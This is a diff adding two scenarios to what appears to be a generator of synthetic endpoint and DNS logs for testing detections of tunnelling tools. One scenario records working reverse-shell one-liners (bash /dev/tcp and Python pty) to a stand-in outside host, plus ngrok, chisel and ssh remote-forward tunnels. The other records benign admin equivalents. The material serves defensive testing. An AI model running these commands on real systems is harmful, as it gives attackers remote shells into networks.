@@ -751,6 +751,60 @@ def benign_user_folder_software(rec, t0):
                                src_port=(135, 133, 143, 136)[k], sysmon=False)
 
 
+@scenario
+def x7_tunnel_tools_and_reverse_shells(rec, t0):
+    """Tunnelling tools and reverse shells by command line (issue 15, T1572/T1090, T1059):
+    ngrok exposing RDP from Downloads (with its agent's DNS lookup), a renamed chisel client
+    opening a reverse SOCKS, a bash /dev/tcp shell and a Python pty one-liner (auditd), an ssh
+    remote forward of the Linux host's SSH to an outside server."""
+    ws = Host("ws22.corp.example", "10.20.1.22", "windows")
+    user = "CORP\\kim"
+    parent = _cmd_parent(rec, ws, t0, user)
+    rec.windows_process(ws, t0 + 5, "C:\\Users\\kim\\Downloads\\ngrok.exe",
+                        "ngrok.exe tcp 3389 --region eu", user, parent=parent)
+    rec.zeek_dns(t0 + 6, ws.ip, "10.20.0.53", "connect.ngrok-agent.com", "A",
+                 answers=("3.125.102.39",))
+    rec.windows_process(ws, t0 + 60, "C:\\ProgramData\\Microsoft\\svchelper.exe",
+                        "svchelper.exe client 198.51.100.23:443 R:socks", user, parent=parent)
+    lx = Host("lnx22.corp.example", "10.20.2.22", "linux")
+    rec.linux_exec(lx, t0 + 120, "/usr/bin/bash",
+                   ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"], uid=33, auid=4294967295)
+    rec.linux_exec(lx, t0 + 180, "/usr/bin/python3.11",
+                   ["python3", "-c", "import socket,os,pty;s=socket.socket();"
+                    "s.connect(('198.51.100.23',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
+                    "pty.spawn('/bin/bash')"], uid=33, auid=4294967295)
+    rec.linux_exec(lx, t0 + 240, "/usr/bin/ssh",
+                   ["ssh", "-fN", "-R", "2222:localhost:22", "tunnel@198.51.100.23"], uid=33,
+                   auid=4294967295)
+
+
+@scenario
+def benign_tunnels_and_admin_forwards(rec, t0):
+    """The quiet counterpart of x7: what administrators and developers type every day with the
+    same programs. ssh local forwards and logins from a jump host, netcat port checks, socat
+    relaying two sockets (no program on them), cloudflared as a DNS-over-HTTPS proxy, Python's
+    HTTP server, PowerShell testing a port, a browser on ngrok's web site."""
+    jump = Host("jump01.corp.example", "10.20.2.30", "linux")
+    rec.linux_exec(jump, t0, "/usr/bin/ssh",
+                   ["ssh", "-l", "admin", "-L", "5432:db01.corp.example:5432", "bastion.corp.example"])
+    rec.linux_exec(jump, t0 + 30, "/usr/bin/ssh", ["ssh", "-l", "admin", "app01.corp.example"])
+    rec.linux_exec(jump, t0 + 60, "/usr/bin/nc", ["nc", "-zv", "db01.corp.example", "5432"])
+    rec.linux_exec(jump, t0 + 90, "/usr/bin/socat",
+                   ["socat", "TCP-LISTEN:8080,fork,reuseaddr", "TCP:app01.corp.example:80"])
+    rec.linux_exec(jump, t0 + 120, "/usr/bin/python3.11", ["python3", "-m", "http.server", "8000"])
+    ws = Host("ws23.corp.example", "10.20.1.23", "windows")
+    user = "CORP\\lena"
+    parent = _cmd_parent(rec, ws, t0, user)
+    rec.windows_process(ws, t0 + 10, "C:\\Program Files (x86)\\cloudflared\\cloudflared.exe",
+                        "cloudflared.exe proxy-dns --port 5053", user, parent=parent)
+    rec.windows_process(ws, t0 + 20, POWERSHELL,
+                        "powershell.exe -Command Test-NetConnection sql01.corp.example -Port 1433",
+                        user, parent=parent)
+    rec.zeek_dns(t0 + 30, ws.ip, "10.20.0.53", "ngrok.com", "A", answers=("54.161.241.46",))
+    rec.zeek_dns(t0 + 31, ws.ip, "10.20.0.53", "dashboard.ngrok.com.cdn.cloudflare.net", "A",
+                 answers=("104.18.1.1",))
+
+
 def build(name, seed=DEFAULT_SEED):
     """Run one scenario; returns its Recorder."""
     if name not in SCENARIOS:
